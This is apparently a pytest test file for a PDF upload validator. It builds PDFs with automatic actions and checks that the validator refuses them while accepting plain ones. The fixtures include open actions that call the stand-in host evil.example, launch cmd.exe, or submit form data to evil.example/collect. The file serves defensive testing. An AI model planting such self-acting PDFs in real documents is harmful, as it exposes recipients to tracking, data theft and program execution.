"""The upload checker refuses PDFs that act by themselves when opened; pypdf builds every variant."""

from io import BytesIO

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from jianding.errors import RuleViolation
from jianding.uploads import upload_check_pdf
from tests.factories.exams import pdf_upload


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind), **entries}
    )


def uri(address: str = "https://evil.example/track") -> DictionaryObject:
    return action("/URI", **{NameObject("/URI"): TextStringObject(address)})


def built_pdf(*, catalog=None, page=None, compress: bool = False) -> bytes:
    """A one-page PDF written by pypdf, with ``catalog`` and ``page`` entries added."""
    writer = PdfWriter()
    first = writer.add_blank_page(width=595, height=842)
    for key, value in (catalog or {}).items():
        writer._root_object[NameObject(key)] = value(writer) if callable(value) else value
    for key, value in (page or {}).items():
        first[NameObject(key)] = value(writer) if callable(value) else value
    if compress:
        writer.compress_identical_objects()
        for each in writer.pages:
            each.compress_content_streams()
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def page_destination(writer) -> ArrayObject:
    return ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])


def indirect(value):
    return lambda writer: writer._add_object(value)


REFUSED = {
    "open action opens a URL": {"catalog": {"/OpenAction": uri()}},
    "open action opens a URL, indirect": {"catalog": {"/OpenAction": indirect(uri())}},
    "open action launches a program": {
        "catalog": {"/OpenAction": action("/Launch", **{NameObject("/F"): TextStringObject("cmd.exe")})}
    },
    "open action submits a form": {
        "catalog": {
            "/OpenAction": action(
                "/SubmitForm", **{NameObject("/F"): TextStringObject("https://evil.example/collect")}
            )
        }
    },
    "open action names a menu item": {
        "catalog": {"/OpenAction": action("/Named", **{NameObject("/N"): NameObject("/Print")})}
    },
    "open action goes to a page, then opens a URL": {
        "catalog": {
            "/OpenAction": lambda writer: action(
                "/GoTo", **{NameObject("/D"): page_destination(writer), NameObject("/Next"): uri()}
            )
        }
    },
    "open action's next actions in an array": {
        "catalog": {
            "/OpenAction": lambda writer: action(
                "/GoTo",
                **{NameObject("/D"): page_destination(writer), NameObject("/Next"): ArrayObject([uri()])},
            )
        }
    },
    "document's additional actions open a URL": {
        "catalog": {"/AA": DictionaryObject({NameObject("/WC"): uri()})}
    },
    "page's additional actions open a URL when the page opens": {
        "page": {"/AA": DictionaryObject({NameObject("/O"): uri()})}
    },
}


@pytest.mark.parametrize("variant", REFUSED.values(), ids=REFUSED.keys())
def test_a_pdf_that_acts_by_itself_when_opened_is_refused(variant):
    with pytest.raises(RuleViolation) as caught:
        upload_check_pdf(pdf_upload("scan.pdf", body=built_pdf(**variant)), field="file")
    assert (caught.value.field, caught.value.code) == ("file", "pdf_active_content")


def link_to(address: str) -> DictionaryObject:
    """A link the reader must click: not an automatic action."""
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject(
                [FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(20)]
            ),
            NameObject("/Border"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(0)]),
            NameObject("/A"): uri(address),
        }
    )


ACCEPTED = {
    "no open action": {},
    "open action shows the first page": {"catalog": {"/OpenAction": page_destination}},
    "open action goes to the first page": {
        "catalog": {
            "/OpenAction": lambda writer: action("/GoTo", **{NameObject("/D"): page_destination(writer)})
        }
    },
    "a link to click": {"page": {"/Annots": ArrayObject([link_to("https://www.osta.org.cn/")])}},
    "compressed, showing the first page": {"catalog": {"/OpenAction": page_destination}, "compress": True},
}


@pytest.mark.parametrize("variant", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_a_pdf_that_only_shows_its_pages_is_accepted(variant):
    body = built_pdf(**variant)
    checked = upload_check_pdf(pdf_upload("scan.pdf", body=body), field="file")
    assert checked.content.read() == body
